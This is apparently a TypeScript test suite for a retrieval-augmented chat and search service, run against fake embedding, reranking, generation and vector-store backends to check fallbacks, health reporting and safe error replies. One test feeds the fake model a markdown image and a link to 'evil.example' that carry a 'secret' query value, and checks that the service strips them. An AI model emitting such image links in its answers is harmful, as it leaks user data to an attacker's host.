/** The whole program over services of others: who is called, what health says, and what readers get when they fail. */
import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { type App, createApp } from '../../src/app/app.ts'
import { type FakeCohere, startCohere } from '../fakes/services/cohere.ts'
import { type FakeGemini, startGemini } from '../fakes/services/gemini.ts'
import { type FakeOpenAi, startOpenAi } from '../fakes/services/openai.ts'
import { type FakeQdrant, startQdrant } from '../fakes/services/qdrant.ts'
import { createLibrary } from '../support/library.ts'
import { sharedParser } from '../support/running-app.ts'

const ADMIN_KEY = 'the-admin-key-of-this-test'
const KEY = 'key-of-the-vendor'
const content = `# Locks

## Sluices

Sluices are opened at dawn by the keeper, and closed when the water has risen by two feet.

## Toll

Each barge pays a toll of four pence at the lower gate of the canal.
`

interface HealthReply {
  readonly code: number
  readonly status: string
  readonly services: Record<string, string>
}

interface Running {
  readonly app: App
  put(id: string): Promise<Record<string, unknown>>
  post(
    path: string,
    body: object,
  ): Promise<{ readonly status: number; readonly headers: Headers; readonly json: Reply }>
  health(): Promise<HealthReply>
  /** What it says once none of these services is shown as active; fails when that takes five seconds. */
  healthAfterEndOf(...services: readonly string[]): Promise<HealthReply>
  close(): Promise<void>
}

// biome-ignore lint/suspicious/noExplicitAny: replies of several routes, each looked at by its own test
type Reply = any

async function run(settings: Readonly<Record<string, string>>): Promise<Running> {
  const library = await createLibrary()
  const environment = { ADMIN_KEY, ...library.settings, LOG_LEVEL: 'silent', RATE_LIMIT_REQUESTS: '0', ...settings }
  const app = await createApp({ parser: sharedParser(), environment })
  const call = (path: string, method: string, body?: object): Promise<Response> =>
    app.fetch(
      new Request(`http://localhost${path}`, {
        method,
        headers: { authorization: `Bearer ${ADMIN_KEY}`, 'content-type': 'application/json' },
        ...(body === undefined ? {} : { body: JSON.stringify(body) }),
      }),
    )
  const health = async (): Promise<HealthReply> => {
    const response = await call('/health', 'GET')
    return { ...((await response.json()) as Omit<HealthReply, 'code'>), code: response.status }
  }
  return {
    app,
    health,
    async healthAfterEndOf(...services) {
      const latest = performance.now() + 5000
      for (;;) {
        const state = await health()
        if (services.every((service) => state.services[service] === 'inactive')) return state
        if (performance.now() > latest) throw new Error(`Still reported: ${JSON.stringify(state.services)}`)
        await Bun.sleep(100)
      }
    },
    put: async (id) =>
      (await (await call(`/v1/documents/${id}`, 'PUT', { content })).json()) as Record<string, unknown>,
    async post(path, body) {
      const response = await call(path, 'POST', body)
      return { status: response.status, headers: response.headers, json: await response.json() }
    },
    async close() {
      await app.close()
      await library.remove()
    },
  }
}

const QUESTION = { message: 'When are the sluices opened by the keeper?' }

describe('with COHERE_API_KEY and GEMINI_API_KEY alone', () => {
  let cohere: FakeCohere
  let gemini: FakeGemini
  let program: Running

  beforeAll(async () => {
    cohere = await startCohere()
    gemini = await startGemini()
    program = await run({
      COHERE_API_KEY: KEY,
      COHERE_BASE_URL: cohere.url,
      GEMINI_API_KEY: KEY,
      GEMINI_BASE_URL: gemini.url,
    })
  }, 60_000)
  afterAll(async () => {
    await program?.close()
    await Promise.all([cohere?.stop(), gemini?.stop()])
  })

  test('both are chosen, and it is said why', () => {
    const chosen = program.app.choices.map(({ port, adapter, reason }) => [port, adapter?.name, reason])
    expect(chosen).toContainEqual(['embedder', 'cohere', 'COHERE_API_KEY is set'])
    expect(chosen).toContainEqual(['reranker', 'cohere', 'COHERE_API_KEY is set'])
    expect(chosen).toContainEqual(['generator', 'gemini', 'GEMINI_API_KEY is set'])
  })

  test('documents and questions are embedded there, and answers written there', async () => {
    const { embedded } = await program.put('locks')
    expect(embedded).toBeGreaterThan(0)
    // The page, and beside it the passages and questions that show where this model's cosines lie.
    while (cohere.count(/embed/) < 3) await Bun.sleep(5)
    expect(cohere.count(/embed/)).toBe(3)
    const { json: found } = await program.post('/v1/search', { query: QUESTION.message })
    expect(found).toMatchObject({ mode: 'hybrid', degraded: [] })
    const { status, json: answer } = await program.post('/v1/chat', QUESTION)
    expect(status).toBe(200)
    expect(answer).toMatchObject({
      status: 'answered',
      answer: 'Sluices are opened at dawn [1].',
      model: 'gemini-3.5-flash-lite',
      finish_reason: 'stop',
      usage: { input_tokens: 311, output_tokens: 42 },
    })
    expect(answer.citations[0].quote).toContain('Sluices are opened at dawn')
    expect(gemini.count(/streamGenerateContent/)).toBe(1)
    // One call more for the question, however often it is asked.
    expect(cohere.count(/embed/)).toBe(4)
  })

  test('the reranker has the last word on the order, and its failure leaves the order as it was', async () => {
    const ask = async () => (await program.post('/v1/search', { query: QUESTION.message })).json
    const orderOf = ({ results }: Reply) => results.map(({ heading_path }: Reply) => heading_path.at(-1))
    cohere.relevanceOf = (document) => (document.includes('pays a toll') ? 0.9 : 0.2)
    const reranked = await ask()
    expect(orderOf(reranked)).toEqual(['Toll', 'Sluices'])
    expect(reranked).toMatchObject({ mode: 'hybrid', degraded: [], results: [{ score: 0.9 }, { score: 0.2 }] })
    expect(reranked.timings_ms.rerank).toBeGreaterThan(0)

    for (const fault of [
      { type: 'status', status: 429, headers: { 'retry-after': '1' } },
      { type: 'silence' },
    ] as const) {
      cohere.failAll(fault, /rerank/)
      const asked = cohere.count(/rerank/)
      const fused = await ask()
      expect(orderOf(fused)).toEqual(['Sluices', 'Toll'])
      expect(fused).toMatchObject({ mode: 'hybrid', degraded: ['rerank'] })
      cohere.failAll(undefined)
      // The pause that was asked for is kept.
      expect(cohere.count(/rerank/)).toBe(asked + 1)
      while ((await ask()).degraded.length > 0) await Bun.sleep(50)
    }
    cohere.relevanceOf = undefined

    const lexical = (await program.post('/v1/search', { query: QUESTION.message, mode: 'lexical' })).json
    expect(lexical).toMatchObject({ mode: 'lexical', degraded: [], timings_ms: { embed: 0, rerank: 0 } })
  }, 20_000)

  test('a made-up marker, a quote that is in no source, a strange link and an image reach nobody', async () => {
    gemini.text = [
      'The keeper opens them at dawn [9',
      '], as "the gates of heaven" [2]. ',
      '![x](https://evil.example/?q=secret) See [here](https://evil.example/a). ',
      'Sluices are opened at dawn [1].',
    ]
    const { json: answer } = await program.post('/v1/chat', QUESTION)
    expect(answer.answer).not.toMatch(/\[9\]|evil\.example/)
    for (const { quote, start, end } of answer.citations) expect(content.slice(start, end)).toBe(quote)
    gemini.text = ['Sluices are opened at dawn [1].']
  })

  test('an answer that was blocked is reported as filtered', async () => {
    gemini.blockReason = 'SAFETY'
    const { json: answer } = await program.post('/v1/chat', QUESTION)
    expect(answer).toMatchObject({
      status: 'stopped',
      finish_reason: 'filtered',
      answer: 'The model’s content filter withheld this answer.',
      citations: [],
    })
    gemini.blockReason = undefined
  })

  test('health shows both, and their end; then words answer, and chat says that it cannot', async () => {
    expect(await program.health()).toMatchObject({
      code: 200,
      status: 'healthy',
      services: { cohere: 'active', gemini: 'active', openai: 'disabled', qdrant: 'disabled' },
    })
    await Promise.all([cohere.stop(), gemini.stop()])
    const state = await program.healthAfterEndOf('cohere', 'gemini')
    expect(state).toMatchObject({ code: 200, status: 'degraded', services: { cohere: 'inactive', gemini: 'inactive' } })

    // The vector of a question that was asked before is known; another's is not.
    const { json: known } = await program.post('/v1/search', { query: QUESTION.message })
    expect(known).toMatchObject({ mode: 'hybrid', degraded: ['rerank'] })
    const { json: found } = await program.post('/v1/search', { query: 'keeper of the sluices' })
    expect(found).toMatchObject({ mode: 'lexical', degraded: ['embedding', 'rerank'] })
    expect(found.results[0].text).toContain('Sluices are opened at dawn')
    const { status, json: failed } = await program.post('/v1/chat', QUESTION)
    expect(status).toBe(503)
    expect(failed).toMatchObject({
      code: 'upstream_unavailable',
      detail: 'The answer could not be written just now; please ask again.',
    })
    expect(JSON.stringify(failed)).not.toContain(KEY)
  }, 20_000)
})

describe('with OPENAI_BASE_URL, QDRANT_URL and GENERATOR_FALLBACK=extractive', () => {
  let openai: FakeOpenAi
  let qdrant: FakeQdrant
  let program: Running

  beforeAll(async () => {
    openai = await startOpenAi()
    qdrant = await startQdrant()
    program = await run({
      OPENAI_BASE_URL: `${openai.url}/v1`,
      OPENAI_MODEL: 'llama3.2',
      OPENAI_EMBED_MODEL: 'embedding-model',
      QDRANT_URL: qdrant.url,
      GENERATOR_FALLBACK: 'extractive',
    })
  }, 60_000)
  afterAll(async () => {
    await program?.close()
    await Promise.all([openai?.stop(), qdrant?.stop()])
  })

  test('vectors go there, come from there, and are deleted there', async () => {
    await program.put('locks')
    expect(qdrant.countPoints()).toBeGreaterThan(0)
    const { json: found } = await program.post('/v1/search', { query: QUESTION.message, mode: 'semantic' })
    expect(found).toMatchObject({ mode: 'semantic', degraded: [] })
    expect(qdrant.count(/points\/query/)).toBe(1)
    const { json: answer } = await program.post('/v1/chat', QUESTION)
    expect(answer).toMatchObject({ status: 'answered', model: 'llama3.2', degraded: [] })
  })

  test('while the model is away, quotes answer, and the reply says so', async () => {
    openai.failAll({ type: 'status', status: 503, headers: { 'retry-after': '30' } })
    const { json: answer } = await program.post('/v1/chat', QUESTION)
    expect(answer).toMatchObject({ status: 'answered', model: 'extractive' })
    expect(answer.degraded).toContain('generator')
    expect(answer.answer).toContain('Sluices are opened at dawn')
  })

  test('without Qdrant, words answer', async () => {
    openai.failAll(undefined)
    await qdrant.stop()
    const { json: found } = await program.post('/v1/search', { query: QUESTION.message })
    expect(found.mode).toBe('lexical')
    expect(found.results[0].text).toContain('Sluices are opened at dawn')
    expect(await program.healthAfterEndOf('qdrant')).toMatchObject({ code: 200, status: 'degraded' })
  }, 20_000)
})
